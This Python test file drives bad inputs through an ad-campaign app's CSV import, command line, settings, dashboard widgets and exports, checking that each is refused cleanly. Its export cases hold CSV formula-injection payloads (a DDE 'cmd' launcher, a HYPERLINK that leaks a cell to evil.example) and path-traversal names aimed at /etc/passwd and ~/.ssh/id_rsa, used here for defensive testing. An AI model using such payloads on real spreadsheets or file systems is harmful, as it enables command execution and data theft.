"""Bad input, everywhere a user can give it: one corpus of named cases over every input surface.

Surfaces: CSV import (`csv`), the command line (`cli`), configuration (`config`), dashboard widgets
driven headless through AppTest (`widget`), and exports (`export`: spreadsheet formulas in CSV cells,
path tricks in file names). Each case hands the product one bad input and returns what the person was
shown; one harness checks the promise for all of them: the message names the problem, no stack trace
reaches the person, and no table of the store changed (the row count of every table, before and after).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import os
import re
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

import cli
import limits
import services
import settings
from generation import compose, designs
from store import csv_import, repository

REPO = Path(__file__).resolve().parent.parent
TRACEBACK = "Traceback (most recent call last)"
ITEMS = b"item_id,title,category\n1,Heat,Action|Crime\n2,Babe,Comedy\n"
EVENTS = b"user_id,item_id,timestamp,rating\nu1,1,1577923200,4\nu2,2,2020-01-03,5\n"
TINY = "tiny-shop"  # a small imported dataset: a page over it loads in seconds
HUGE_MB = 200


@dataclass
class Ctx:
    """What a case may use: a scratch folder, environment patches undone after the case, and shared inputs."""

    tmp: Path
    env: pytest.MonkeyPatch
    variant_id: int  # a stored variant whose text is all spreadsheet formulas
    huge_csv: Path  # a real 200 MB interactions file

    def file(self, name: str, data: bytes | str) -> str:
        path = self.tmp / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return str(path)

    def settings_file(self, data: bytes | str) -> Path:
        """Write the settings file (the harness puts the original back after the case)."""
        path = settings.settings_file()
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path


@dataclass(frozen=True)
class Case:
    name: str
    surface: str
    run: Callable[[Ctx], str]  # gives the bad input; returns what the person was shown
    expect: tuple[str, ...]  # fragments of that: the problem, named


# --- how each surface is driven -----------------------------------------------------------------------------

def refused_import(items_data: bytes, events_data: bytes, name: str = "shop") -> str:
    """Import through the service that the Audience page and `cli.py import` share; the refusal's message."""
    with pytest.raises(csv_import.ImportFailed) as info:
        services.audience.import_csv(name, items_data, events_data, "items.csv", "events.csv")
    return str(info.value)


def refused_cli(*argv: str) -> str:
    """`cli.py` in-process (the code path of a terminal run) with --json, so stderr holds only the error.

    It must exit non-zero with one line naming the problem; an import adds one line per problem."""
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        try:
            code = cli.main([*argv, "--json"])
        except SystemExit as usage:  # argparse's usage errors
            code = usage.code
    lines = err.getvalue().strip().splitlines()
    assert code not in (0, None), f"exit {code} for {argv}: {err.getvalue()}"
    assert len(lines) == 1 or lines[0].startswith("error: Import failed"), lines
    assert "error:" in lines[0], lines
    return err.getvalue()


def cli_with_settings(content: str | bytes, *argv: str) -> Callable[[Ctx], str]:
    """A command run over a settings file holding `content`."""
    def run(ctx: Ctx) -> str:
        ctx.settings_file(content)
        return refused_cli(*argv)

    return run


def cli_with_env(var: str, value: str | Callable[[Ctx], str], *argv: str) -> Callable[[Ctx], str]:
    """A command run with an environment variable set (to `value`, or what `value(ctx)` makes)."""
    def run(ctx: Ctx) -> str:
        ctx.env.setenv(var, value(ctx) if callable(value) else value)
        return refused_cli(*argv)

    return run


def events_csv(*rows: str, header: str = "user_id,item_id,timestamp,rating") -> bytes:
    return "\n".join([header, *rows, ""]).encode()


def items_csv(*rows: str, header: str = "item_id,title,year") -> bytes:
    return "\n".join([header, *rows, ""]).encode()


def shown_on(at: AppTest) -> str:
    """Everything a page said: errors, warnings and the code block listing import problems."""
    assert not at.exception, [e.value for e in at.exception]
    return "\n".join(e.value for e in [*at.error, *at.warning, *at.code])


def page(path: str | None, state: dict | None = None) -> AppTest:
    """A page after its first run; None: the landing page through the entry script (switch_page skips it)."""
    at = AppTest.from_file(str(REPO / "streamlit_app.py"), default_timeout=300)
    if path:
        at.switch_page(path)
    for key, value in (state or {}).items():
        at.session_state[key] = value
    return at.run()


def campaign_upload(name: str, data: bytes) -> str:
    at = page("pages/campaign_lab.py", {"campaign_dataset": TINY})
    return shown_on(at.file_uploader(key="variants_file").set_value((name, data, "text/csv")).run())


def campaign_edited(rows: list[dict]) -> str:
    """Variants typed into the Campaign Lab table (the editor starts from session state), then Run."""
    at = page("pages/campaign_lab.py", {"campaign_dataset": TINY})
    at.session_state["variants"], at.session_state["variants_item"] = rows, at.selectbox(key="campaign_item").value
    at.run()
    return shown_on(at.button(key="run_campaign").click().run())


def audience_import(items_data: bytes | None, events_data: bytes | None, name: str = "shop") -> str:
    at = page("pages/audience.py", {"dataset": TINY})
    files = (("items.csv", items_data), ("events.csv", events_data))
    for uploader, (file, data) in zip(list(at.file_uploader), files, strict=True):
        if data is not None:
            uploader.set_value((file, data, "text/csv"))
    at.text_input[1].set_value(name)  # the import form's dataset name (the first is the user search)
    return shown_on(next(b for b in at.button if b.label == "Import").click().run())


def configured_page(ctx: Ctx, path: str | None, content: str | None = None, env: dict | None = None) -> str:
    """What a page shows over a settings file holding `content` and with environment variables `env` set."""
    if content is not None:
        ctx.settings_file(content)
    for var, value in (env or {}).items():
        ctx.env.setenv(var, value)
    return shown_on(page(path))


def settings_saved(kit: str) -> str:
    """The Settings page's form submitted with another brand kit file."""
    at = page("pages/settings_page.py")
    at.text_input[3].set_value(kit)
    return shown_on(at.button[0].click().run())


def studio_generate(n: int, users: int) -> str:
    """A segment request in the Studio: each widget within its range, the request as a whole too big."""
    at = page("pages/studio.py", {"studio_dataset": TINY, "studio_mode": "A segment"})
    at.number_input(key="studio_max_users").set_value(users)
    at.slider(key="studio_n").set_value(n)
    return shown_on(at.button(key="generate").click().run())


def brand_kit(ctx: Ctx, **changes: object) -> str:
    kit = json.loads(compose.BRAND_KIT_PATH.read_text(encoding="utf-8")) | changes
    return ctx.file("kit.json", json.dumps(kit))


def formula_cell(cell: str) -> Callable[[Ctx], str]:
    """Export a cell through the campaign downloads' CSV writer; read back as a spreadsheet would, it must be one
    cell of one row (a bare CR must not start a new row) that cannot start a formula."""
    def run(_ctx: Ctx) -> str:
        data = services.common.csv_export(pd.DataFrame({"title": [cell], "clicks": [-2]}))
        [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert row["clicks"] == "-2"  # numbers stay numbers
        return row["title"]

    return run


def manifest_export(ctx: Ctx) -> str:
    """The Studio's ZIP export: its manifest.csv cells from a stored variant whose every text is a formula."""
    archive = zipfile.ZipFile(io.BytesIO(services.studio.export_variants([ctx.variant_id])))
    row = next(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8"), newline="")))
    fields = {k: row[k] for k in ("user_id", "title", "body", "cta")}
    assert all(v.startswith("'") for v in fields.values()), fields
    return json.dumps(fields)


@functools.cache
def banner() -> compose.Banner:
    return designs.compose_banners(lambda w, h: Image.new("RGB", (w, h), (40, 70, 110)), "Heat", "Watch now",
                                   compose.load_brand_kit(), sizes=((300, 250),))["300x250"]


def banner_name(stem: str, size: str = "300x250") -> Callable[[Ctx], str]:
    """Save a banner under a hostile name; the file must land inside the folder with a plain name."""
    def run(ctx: Ctx) -> str:
        folder = ctx.tmp / "banners"
        before = set(ctx.tmp.rglob("*"))
        path = Path(compose.save_banners({size: banner()}, folder, stem)[size])
        assert path.parent == folder.resolve() and re.fullmatch(r"[A-Za-z0-9_-]{1,100}\.png", path.name)
        assert set(ctx.tmp.rglob("*")) - before == {folder, path}  # nothing written anywhere else
        return path.name

    return run


def huge_upload(ctx: Ctx) -> str:
    """The 200 MB file from disk must be refused by its size before it is read: memory stays small."""
    tracemalloc.start()
    try:
        with pytest.raises(csv_import.ImportFailed) as info:
            services.audience.import_csv_files("shop", ctx.file("items.csv", ITEMS), ctx.huge_csv)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 2**20, f"{peak / 2**20:.0f} MB allocated to refuse a {HUGE_MB} MB file"
    return str(info.value)


W = "\u0661\u0669\u0669\u0665"  # 1995 in Arabic-Indic digits: int() reads it, a spreadsheet would not
CSV_CASES = [
    Case("utf16-with-bom", "csv", lambda c: refused_import("item_id,title\n1,Heat\n".encode("utf-16"), EVENTS),
         ("items.csv, line 1: is UTF-16 text", "save it as UTF-8")),
    Case("utf16-without-bom", "csv", lambda c: refused_import("item_id,title\n1,Heat\n".encode("utf-16-le"), EVENTS),
         ("items.csv, line 1: contains NUL bytes",)),
    Case("latin1-invalid-byte", "csv", lambda c: refused_import(ITEMS, EVENTS + b"Zo\xe9,2,1577923200,4\n"),
         ("events.csv, line 4: not valid UTF-8",)),
    Case("cp1252-smart-quotes", "csv", lambda c: refused_import(b"item_id,title\n1,\x93Heat\x94\n", EVENTS),
         ("items.csv, line 2: not valid UTF-8",)),
    Case("xlsx-renamed", "csv", lambda c: refused_import(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", EVENTS),
         ("items.csv, line 1: contains NUL bytes; is it a CSV file?",)),
    Case("gzip-renamed", "csv", lambda c: refused_import(ITEMS, b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"),
         ("events.csv, line 1: not valid UTF-8",)),
    Case("empty-events", "csv", lambda c: refused_import(ITEMS, b""), ("events.csv: file is empty",)),
    Case("bom-only", "csv", lambda c: refused_import(b"\xef\xbb\xbf", EVENTS), ("items.csv: file is empty",)),
    Case("missing-timestamp-column", "csv",
         lambda c: refused_import(ITEMS, events_csv("u1,1", header="user_id,item_id")),
         ("events.csv, line 1, column 'timestamp': required column is missing",)),
    Case("extra-column", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,1,4,9", header="user_id,item_id,"
                                                                                              "timestamp,rating,price")),
         ("events.csv, line 1, column 'price': unexpected column",)),
    Case("blank-header-cell", "csv", lambda c: refused_import(b"item_id,title,\n1,Heat,\n", EVENTS),
         ("items.csv, line 1, column '(empty)': unexpected column",)),
    Case("duplicate-column", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,u1,1", header="user_id,item_id,"
                                                                                                 "user_id,timestamp")),
         ("events.csv, line 1, column 'user_id': column appears more than once",)),
    Case("duplicate-id-padded", "csv", lambda c: refused_import(items_csv("1,Heat,1995", " 1 ,Babe,1995"), EVENTS),
         ("items.csv, line 3, column 'item_id': duplicate id '1' (first on line 2)",)),
    Case("unknown-item-other-case", "csv", lambda c: refused_import(b"item_id,title\nA,Heat\n", events_csv("u1,a,1,4")),
         ("events.csv, line 2, column 'item_id': 'a' is not in the items file",)),
    Case("negative-timestamp", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,-1,4")),
         ("events.csv, line 2, column 'timestamp': '-1' is not a Unix time",)),
    Case("year-10000-date", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,10000-01-01,4")),
         ("column 'timestamp': '10000-01-01' is not a Unix time or ISO date between 1970 and 2100",)),
    Case("timestamp-1e308", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,1e308,4")),
         ("column 'timestamp': '1e308'",)),
    Case("timestamp-30-digits", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1," + "9" * 30 + ",4")),
         ("column 'timestamp': '" + "9" * 30 + "'",)),
    Case("rating-1e308", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,1577923200,1e308")),
         ("column 'rating': '1e308' is not a number between 0 and 1000",)),
    Case("rating-underscore", "csv", lambda c: refused_import(ITEMS, events_csv("u1,1,1577923200,1_0")),
         ("column 'rating': '1_0' is not a number",)),
    Case("timestamp-foreign-digits", "csv", lambda c: refused_import(ITEMS, events_csv(f"u1,1,{W},4")),
         ("events.csv, line 2, column 'timestamp'",)),
    Case("year-foreign-digits", "csv", lambda c: refused_import(items_csv(f"1,Heat,{W}"), EVENTS),
         ("items.csv, line 2, column 'year'", "is not a year between 1800 and 2100")),
    Case("year-negative", "csv", lambda c: refused_import(items_csv("1,Heat,-1995"), EVENTS),
         ("column 'year': '-1995' is not a year",)),
    Case("year-huge", "csv", lambda c: refused_import(items_csv("1,Heat," + "9" * 25), EVENTS),
         ("column 'year': '" + "9" * 25 + "' is not a year",)),
    Case("unclosed-quote", "csv", lambda c: refused_import(b'item_id,title\n1,"Heat\n2,Babe\n', EVENTS),
         ("items.csv, line 2: malformed CSV: a quote (\") opened on this line is never closed",)),
    Case("text-after-closing-quote", "csv", lambda c: refused_import(b'item_id,title\n1,"Heat"s\n', EVENTS),
         ("items.csv, line 2: malformed CSV",)),
    Case("escape-sequence-in-user-id", "csv", lambda c: refused_import(ITEMS, events_csv("u\x1b[31m1,1,1577923200,4")),
         ("column 'user_id': contains the control character U+001B",)),
    Case("blank-user-id", "csv", lambda c: refused_import(ITEMS, events_csv("   ,1,1577923200,4")),
         ("events.csv, line 2, column 'user_id': is empty",)),
    Case("user-id-too-long", "csv", lambda c: refused_import(ITEMS, events_csv("u" * 129 + ",1,1577923200,4")),
         ("column 'user_id': is 129 characters long; the limit is 128",)),
    Case("dataset-name-with-nul", "csv", lambda c: refused_import(ITEMS, EVENTS, name="shop\x00"),
         ("dataset name: ", "must be 1-64 letters")),
    Case("file-200mb-on-disk", "csv", huge_upload, ("events.csv: file is 200.0 MB, over the 100 MB limit",)),
    Case("upload-over-cap", "csv", lambda c: refused_import(ITEMS, b"u" * (csv_import.MAX_FILE_BYTES + 1)),
         ("events.csv: file is 100.0 MB, over the 100 MB limit",)),
    Case("items-path-is-a-folder", "csv",
         lambda c: str(pytest.raises(csv_import.ImportFailed, services.audience.import_csv_files, "shop", c.tmp,
                                     c.huge_csv).value), ("is a folder, not a CSV file",)),
]

CLI_CASES = [
    Case("unknown-user", "cli", lambda c: refused_cli("profile", "--user", "99999"),
         ("error: Unknown user '99999' in dataset 'movielens-100k'",)),
    Case("unknown-dataset", "cli", lambda c: refused_cli("profile", "--user", "1", "--dataset", "nope"),
         ("error: Unknown dataset 'nope' (known: ", "movielens-100k")),  # other tests may add datasets
    Case("users-unknown-dataset", "cli", lambda c: refused_cli("users", "--dataset", "../../etc"),
         ("Unknown dataset '../../etc'",)),
    Case("users-limit-zero", "cli", lambda c: refused_cli("users", "--limit", "0"),
         ("argument --limit: the number of users listed must be a whole number from 1 to 100,000 (got 0)",)),
    Case("generate-unknown-item", "cli", lambda c: refused_cli("generate", "--item", "99999", "--user", "1",
                                                               "--out", str(c.tmp / "out")),
         ("error: Unknown item '99999'",)),
    Case("generate-unknown-user", "cli", lambda c: refused_cli("generate", "--item", "50", "--user", "nobody",
                                                               "--out", str(c.tmp / "out")),
         ("error: Unknown user 'nobody'",)),
    Case("n-100000", "cli", lambda c: refused_cli("generate", "--item", "50", "--n", "100000", "--out", "x"),
         ("argument --n: variants per user must be a whole number from 1 to 16 (got 100000)",)),
    Case("n-zero", "cli", lambda c: refused_cli("generate", "--item", "50", "--n", "0", "--out", "x"),
         ("argument --n: variants per user must be a whole number from 1 to 16 (got 0)",)),
    Case("n-negative", "cli", lambda c: refused_cli("generate", "--item", "50", "--n", "-3", "--out", "x"),
         ("(got -3)",)),
    Case("n-not-a-number", "cli", lambda c: refused_cli("generate", "--item", "50", "--n", "four", "--out", "x"),
         ("argument --n: 'four' is not a whole number from 1 to 16",)),
    Case("segment-users-100000", "cli", lambda c: refused_cli("generate", "--item", "50", "--users", "100000",
                                                              "--out", "x"),
         ("users drawn from a segment must be a whole number from 1 to 64 (got 100000)",)),  # up to 1,000,000
    # as a segment job (--engine ray or --batch-users), 64 in one request
    Case("variants-per-request", "cli", lambda c: refused_cli("generate", "--item", "50", "--n", "16", "--users",
                                                              "64", "--out", str(c.tmp / "out")),
         (f"error: A request makes at most {limits.VARIANTS_PER_REQUEST} variants", "is 1024")),
    Case("unknown-segment", "cli", lambda c: refused_cli("generate", "--item", "50", "--segment", "zodiac",
                                                         "--out", str(c.tmp / "out")),
         ("error: Unknown segment kind 'zodiac'",)),
    Case("unknown-group", "cli", lambda c: refused_cli("generate", "--item", "50", "--segment", "gender",
                                                       "--group", "X", "--out", str(c.tmp / "out")),
         ("error: No user is in segment Gender = 'X'",)),
    Case("out-is-a-file", "cli", lambda c: refused_cli("generate", "--item", "50", "--user", "1",
                                                       "--out", c.file("taken", "x")),
         ("cannot be used as a folder: File exists",)),
    Case("out-with-nul", "cli", lambda c: refused_cli("generate", "--item", "50", "--user", "1", "--out", "a\x00b"),
         ("--out 'a\\x00b' cannot be used as a folder: embedded null byte",)),
    Case("steps-zero", "cli", lambda c: refused_cli("tune", "--steps", "0"),
         ("argument --steps: training steps must be a whole number from 1 to 100,000 (got 0)",)),
    Case("steps-ten-million", "cli", lambda c: refused_cli("tune", "--steps", "10000000"),
         ("argument --steps: training steps must be a whole number from 1 to 100,000 (got 10000000)",)),
    Case("learning-rate-negative", "cli", lambda c: refused_cli("tune", "--learning-rate", "-1"),
         ("argument --learning-rate: the learning rate must be a number from 1e-06 to 0.1",)),
    Case("learning-rate-nan", "cli", lambda c: refused_cli("tune", "--learning-rate", "nan"),
         ("argument --learning-rate: the learning rate must be", "(got nan)")),
    Case("beta-negative", "cli", lambda c: refused_cli("tune", "--beta", "-5"),
         ("argument --beta: the KL coefficient (beta) must be a number from 0 to 10000",)),
    Case("one-generation", "cli", lambda c: refused_cli("tune", "--generations", "1"),
         ("argument --generations: generations per prompt must be a whole number from 2 to 16",)),
    Case("lora-rank-huge", "cli", lambda c: refused_cli("tune", "--lora-r", "100000"),
         ("argument --lora-r: the LoRA rank must be a whole number from 1 to 256",)),
    Case("variants-missing", "cli", lambda c: refused_cli("simulate", "--variants", str(c.tmp / "none.csv")),
         ("none.csv: file not found",)),
    Case("variants-folder", "cli", lambda c: refused_cli("simulate", "--variants", str(c.tmp)),
         ("is a folder, not a file",)),
    Case("variants-over-1mb", "cli", lambda c: refused_cli("simulate", "--variants",
                                                           c.file("v.csv", "title\n" + "Ad\n" * 400_000)),
         ("v.csv: file is 1,200,006 bytes, over the 1,048,576-byte limit",)),
    Case("variants-bad-json", "cli", lambda c: refused_cli("simulate", "--variants", c.file("v.json", '[{"title": ')),
         ("error: v.json: invalid JSON at line 1",)),
    Case("variants-json-shape", "cli", lambda c: refused_cli("simulate", "--variants",
                                                             c.file("v.json", '{"variants": "Watch it"}')),
         ("v.json: expected a JSON list of objects with title, body and cta",)),
    Case("variants-json-non-text", "cli", lambda c: refused_cli("simulate", "--variants",
                                                                c.file("v.json", '[{"title": ["a"]}]')),
         ("v.json, variant 1: title must be text, not list",)),
    Case("variants-no-title-column", "cli", lambda c: refused_cli("simulate", "--variants",
                                                                  c.file("v.csv", "headline,body\nHi,there\n")),
         ("v.csv, line 1: a 'title' column is required",)),
    Case("variants-unclosed-quote", "cli", lambda c: refused_cli("simulate", "--variants",
                                                                 c.file("v.csv", 'title\nok\n"Heat\n')),
         ("v.csv, line 3: malformed CSV: a quote",)),
    Case("variants-51", "cli", lambda c: refused_cli("simulate", "--variants",
                                                     c.file("v.csv", "title\n" + "\n".join(map(str, range(51))))),
         ("v.csv: 51 variants; a campaign takes at most 50",)),
    Case("simulate-unknown-item", "cli", lambda c: refused_cli("simulate", "--variants", c.file("v.csv", "title\nHi\n"),
                                                               "--item", "99999"),
         ("error: Unknown item '99999'",)),
    Case("impressions-billion", "cli", lambda c: refused_cli("simulate", "--variants", "v.csv", "--impressions",
                                                             "1000000000"),
         ("argument --impressions: impressions must be a whole number from 100 to 200,000",)),
    Case("import-missing-file", "cli", lambda c: refused_cli("import", "--items", str(c.tmp / "no.csv"),
                                                             "--interactions", str(c.tmp / "no2.csv")),
         ("error: Import failed with 1 problem(s); nothing was written.", "no.csv: file not found")),
    Case("evaluate-path-as-run", "cli", lambda c: refused_cli("evaluate", "--run", "../../etc/passwd"),
         ("error: Unknown run '../../etc/passwd'",)),
    Case("negatives-zero", "cli", lambda c: refused_cli("eval-intent", "--negatives", "0"),
         ("argument --negatives: sampled negatives must be a whole number from 1 to 10,000",)),
    Case("seed-negative", "cli", lambda c: refused_cli("simulate", "--variants", "v.csv", "--seed", "-1"),
         ("argument --seed: the seed must be a whole number from 0 to 2,147,483,647",)),
    Case("unknown-command", "cli", lambda c: refused_cli("launch-missiles"),
         ("argument command: invalid choice: 'launch-missiles'",)),
    Case("missing-arguments", "cli", lambda c: refused_cli("generate"),
         ("the following arguments are required: --item, --out",)),
]

CONFIG_CASES = [
    Case("settings-not-json", "config", cli_with_settings('{"device": ', "settings"),
         ("settings.json is not valid JSON",)),
    Case("settings-not-utf8", "config", cli_with_settings(b'{"device": "\xff"}', "settings"),
         ("settings.json is not valid JSON", "utf-8")),
    Case("settings-a-list", "config", cli_with_settings('["cpu"]', "datasets"),
         ("settings.json must hold a JSON object",)),
    Case("settings-unknown-key", "config", cli_with_settings('{"colour": "red"}', "settings"),
         ("settings.json has unknown keys: colour",)),
    Case("settings-number", "config", cli_with_settings('{"device": 5}', "settings"),
         ("Setting 'device' in settings file", "must be a string (found a number)")),
    Case("settings-null", "config", cli_with_settings('{"text_model": null}', "settings"),
         ("Setting 'text_model'", "(found null)")),
    Case("settings-device-typo", "config", cli_with_settings('{"device": "gpu"}', "settings"),
         ("Setting 'device' in settings file", "is 'gpu'; use auto, cpu, cuda, cuda:N, mps or xpu")),
    Case("image-model-folder-missing", "config", cli_with_env("ADLOOP_IMAGE_MODEL", "/no/art-model", "settings"),
         ("image_model ($ADLOOP_IMAGE_MODEL): the folder /no/art-model does not exist",)),
    Case("adapter-folder-missing", "config", cli_with_settings('{"text_adapter": "/no/adapter"}', "settings"),
         ("text_adapter (settings file): the folder /no/adapter does not exist",)),
    Case("env-device-typo", "config", cli_with_env("ADLOOP_DEVICE", "gpu", "settings"),
         ("Setting 'device' in $ADLOOP_DEVICE is 'gpu'",)),
    Case("env-value-with-newline", "config", cli_with_env("ADLOOP_IMAGE_MODEL", "procedural\nx", "settings"),
         ("Setting 'image_model' in $ADLOOP_IMAGE_MODEL", "control characters")),
    Case("database-unknown-scheme", "config", cli_with_env("DATABASE_URL", "nonsense://db", "datasets"),
         ("The database_url nonsense://db cannot be opened",)),
    Case("database-missing-driver", "config", cli_with_env("DATABASE_URL", "mysql://me:pw@127.0.0.1:1/x", "users"),
         ("The database_url mysql://me:***@127.0.0.1:1/x cannot be opened",)),
    Case("database-unwritable", "config", cli_with_env("DATABASE_URL", "sqlite:////proc/adloop/x.db", "datasets"),
         ("The database_url sqlite:////proc/adloop/x.db cannot be opened",)),
    Case("database-is-a-folder", "config", cli_with_env("DATABASE_URL", lambda c: f"sqlite:///{c.tmp}", "datasets"),
         ("cannot be opened", "unable to open database file")),
    Case("model-folder-missing", "config", cli_with_env("ADLOOP_TEXT_MODEL", lambda c: str(c.tmp / "no-model"),
                                                        "settings"),
         ("text_model ($ADLOOP_TEXT_MODEL): the folder", "no-model does not exist")),
    Case("brand-kit-missing", "config", cli_with_env("ADLOOP_BRAND_KIT", lambda c: str(c.tmp / "kit.json"),
                                                     "settings"),
         ("brand_kit ($ADLOOP_BRAND_KIT): Brand kit", "kit.json cannot be read as JSON")),
    Case("brand-kit-bad-colour", "config", cli_with_env("ADLOOP_BRAND_KIT", lambda c: brand_kit(
        c, colours={"primary": "#12345g", "accent": "#fff"}), "settings"),
        ("'colours.primary' must be a hex colour like #1a2b3c, not '#12345g'",)),
    Case("brand-kit-unknown-key", "config", cli_with_env("ADLOOP_BRAND_KIT", lambda c: brand_kit(c, font="Comic"),
                                                         "settings"),
         ("unknown key 'font'",)),
    Case("save-broken-brand-kit", "config", lambda c: str(pytest.raises(
        ValueError, services.settings.save_settings, {"brand_kit": brand_kit(c, banned_words="free")}).value),
        ("'banned_words' must be a list of non-empty strings",)),
    Case("save-unknown-setting", "config",
         lambda c: str(pytest.raises(ValueError, services.settings.save_settings, {"gpu_count": "2"}).value),
         ("Unknown settings: gpu_count",)),
]

WIDGET_CASES = [
    Case("variant-upload-bad-json", "widget", lambda c: campaign_upload("v.json", b'[{"title": "Heat",'),
         ("v.json: invalid JSON at line 1",)),
    Case("variant-upload-binary", "widget", lambda c: campaign_upload("v.csv", b"\x89PNG\r\n\x1a\n\x00\x00"),
         ("v.csv: not valid UTF-8",)),
    Case("variant-upload-too-many", "widget", lambda c: campaign_upload(
        "v.csv", ("title\n" + "".join(f"Ad {i}\n" for i in range(60))).encode()),
        ("v.csv: 60 variants; a campaign takes at most 50",)),
    Case("variant-table-empty-and-long", "widget", lambda c: campaign_edited(
        [{"title": "", "body": "Tonight only", "cta": "Go"}, {"title": "x" * 300, "body": None, "cta": None}]),
        ("variant 1: the title is empty", "variant 2: title is 300 characters; the limit is 200")),
    Case("audience-import-utf16", "widget", lambda c: audience_import("item_id,title\n1,Heat\n".encode("utf-16"),
                                                                      EVENTS),
         ("Nothing was imported", "items.csv, line 1: is UTF-16 text")),
    Case("audience-import-duplicates", "widget", lambda c: audience_import(items_csv("1,Heat,1995", "1,Babe,1995"),
                                                                           EVENTS),
         ("Nothing was imported", "items.csv, line 3, column 'item_id': duplicate id '1'")),
    Case("audience-import-one-file", "widget", lambda c: audience_import(ITEMS, None), ("Choose both files first",)),
    Case("audience-import-bad-name", "widget", lambda c: audience_import(ITEMS, EVENTS, name="../etc"),
         ("dataset name: '../etc' must be 1-64 letters",)),
    Case("audience-search-wildcard", "widget", lambda c: shown_on(page("pages/audience.py", {"user_query": "%"})),
         ("No user matches '%'",)),
    Case("settings-page-broken-file", "widget", lambda c: configured_page(c, "pages/settings_page.py", '{"device": '),
         ("settings.json is not valid JSON",)),
    Case("settings-page-bad-brand-kit", "widget", lambda c: configured_page(c, "pages/settings_page.py", env={
        "ADLOOP_BRAND_KIT": brand_kit(c, colours={"primary": "red", "accent": "#fff"})}),
        ("brand_kit ($ADLOOP_BRAND_KIT)", "'colours.primary' must be a hex colour")),
    Case("settings-page-save-missing-kit", "widget", lambda c: settings_saved(str(c.tmp / "nope.json")),
         ("Nothing was saved: Brand kit", "nope.json cannot be read as JSON")),
    Case("app-broken-database-url", "widget", lambda c: configured_page(c, None, env={"DATABASE_URL": "nonsense://db"}),
         ("The database_url nonsense://db cannot be opened",)),
    Case("app-broken-settings-file", "widget", lambda c: configured_page(c, None, '{"device": "gpu"}'),
         ("Setting 'device' in settings file", "is 'gpu'")),
    Case("studio-request-too-big", "widget", lambda c: studio_generate(16, 64),
         (f"A request makes at most {limits.VARIANTS_PER_REQUEST} variants; 16 per user for 64 users is 1024",)),
]

FORMULAS = {"dde-command": "=cmd|' /C calc'!A0", "plus": "+SUM(1)", "minus": "-2+3", "tab-prefixed": "\t=1+1",
            "at-hyperlink": '@HYPERLINK("http://evil.example","x")', "cr-prefixed": "\r=1+1",
            "hyperlink-leak": '=HYPERLINK("http://evil.example?"&A1)'}
EXPORT_CASES = [
    *[Case(f"formula-{name}", "export", formula_cell(cell), ("'" + cell,)) for name, cell in FORMULAS.items()],
    Case("formula-after-bare-cr", "export", formula_cell("Heat\r=HYPERLINK(\"http://evil.example\")"),
         ("Heat\r=HYPERLINK",)),
    Case("manifest-csv-formulas", "export", manifest_export,
         ('"title": "\'=cmd|', '"user_id": "\'@SUM', '"cta": "\'+1', '"body": "\'-2+3')),
    Case("banner-dot-dot-slash", "export", banner_name("../../etc/passwd"), ("etc-passwd-300x250.png",)),
    Case("banner-absolute", "export", banner_name("/etc/passwd"), ("etc-passwd-300x250.png",)),
    Case("banner-backslashes", "export", banner_name("..\\..\\Windows\\win.ini"), ("Windows-win-ini-300x250.png",)),
    Case("banner-nul-byte", "export", banner_name("ad\x00.png"), ("ad-png-300x250.png",)),
    Case("banner-very-long", "export", banner_name("x" * 5000), ("x" * 80 + "-300x250.png",)),
    Case("banner-home-folder", "export", banner_name("~/.ssh/id_rsa"), ("ssh-id_rsa-300x250.png",)),
    Case("banner-url-encoded", "export", banner_name("%2e%2e%2fetc"), ("2e-2e-2fetc-300x250.png",)),
    Case("banner-only-dots", "export", banner_name("..."), ("banner-300x250.png",)),
    Case("banner-size-traversal", "export", banner_name("ad", size="../../x"), ("ad-x.png",)),
]

CORPUS = CSV_CASES + CLI_CASES + CONFIG_CASES + WIDGET_CASES + EXPORT_CASES


# --- the harness ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def shared(demo_store: str, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Written once, before any case counts the store: a tiny dataset, a formula-laden variant, a 200 MB file."""
    services.audience.import_csv(TINY, ITEMS, EVENTS, replace=True)
    [variant_id] = repository.save_variants([{
        "batch": "bad-input", "dataset": demo_store, "user_id": "@SUM(1+1)*cmd|' /C calc'!A0", "segment": None,
        "item_id": "50", "title": "=cmd|' /C calc'!A0", "body": "-2+3", "cta": "+1", "angle": "test",
        "model": "none", "adapter": None, "prompt": "", "seed": 0, "profile_version": "test",
        "safety": {"status": "passed", "reasons": []}, "score": None, "brief": None, "banners": None}])
    huge = tmp_path_factory.mktemp("huge") / "events.csv"
    block = b"u1,1,1577923200,4\n" * 2**16
    with huge.open("wb") as out:
        for _ in range(HUGE_MB * 2**20 // len(block) + 1):
            out.write(block)
        out.truncate(HUGE_MB * 2**20)
    return {"variant_id": variant_id, "huge_csv": huge}


@contextlib.contextmanager
def restored_settings() -> Iterator[None]:
    """Whatever a case does to the settings file is undone when it ends."""
    path = settings.settings_file()
    saved = path.read_bytes() if path.exists() else None
    try:
        yield
    finally:
        path.unlink(missing_ok=True)
        if saved is not None:
            path.write_bytes(saved)


@pytest.mark.parametrize("case", CORPUS, ids=lambda c: f"{c.surface}-{c.name}")
def test_bad_input_is_named_without_a_traceback_and_writes_nothing(case: Case, shared: dict, tmp_path: Path) -> None:
    before = repository.table_counts()
    with pytest.MonkeyPatch.context() as env, restored_settings():
        shown = case.run(Ctx(tmp_path, env, shared["variant_id"], shared["huge_csv"]))
    assert TRACEBACK not in shown
